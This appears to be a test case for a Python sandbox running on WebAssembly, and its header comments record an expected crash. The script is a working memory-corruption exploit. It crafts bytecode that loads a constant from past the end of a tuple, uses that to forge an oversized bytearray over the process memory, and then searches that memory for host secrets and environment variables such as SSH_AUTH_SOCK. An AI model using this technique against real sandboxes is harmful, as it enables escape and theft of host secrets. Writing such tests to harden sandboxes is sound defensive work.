# expect: status=crashed exit=139
# stdout: "a view of 2147483647 bytes\nof the host: []\n"
# tries: bytecode that takes a constant from beyond its constants makes an object out of bytes: a bytearray over all of
# tries: memory, without ctypes. It looks for traces of the host, then reads on behind the end of WebAssembly's memory
# without: paths or variables of the host, or memory of the engine's process
# source: own
import dis
import re
import struct


def victim():
    return None


HEADER = bytes.__basicsize__ - 1
constants = (1, 2, 3)
items = id(constants) + tuple.__basicsize__
# struct PyByteArrayObject: references, type, size, capacity, buffer, start, exports.
fake = struct.pack("<7I", 1000, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0)
for padding in range(4):
    pointer = bytes(padding) + struct.pack("<I", id(fake) + HEADER)
    distance = id(pointer) + HEADER + padding - items
    if distance % 4 == 0:
        break
index = (distance // 4) % 2**32
EXTENDED, LOAD, RETURN, RESUME = (dis.opmap[n] for n in ("EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE", "RESUME"))
code = [RESUME, 0]
for shift in (24, 16, 8):
    code += [EXTENDED, index >> shift & 0xFF]
code += [LOAD, index & 0xFF, RETURN, 0]
victim.__code__ = victim.__code__.replace(co_code=bytes(code), co_consts=constants)
memory = victim()
print("a view of", len(memory), "bytes", flush=True)
# The patterns do not match themselves.
traces = rb"PYSANDBOX_TEST_SECRE[T]|the-host-kee[p]s|DENO_DI[R]=|PATH=[/]usr|LD_LIBRARY_PAT[H]=|SSH_AUTH_SOC[K]"
print("of the host:", re.findall(traces, memory[1024 : 30 * 1024 * 1024]), flush=True)
print("ESCAPED: memory of the process", memory[2**31 - 16])
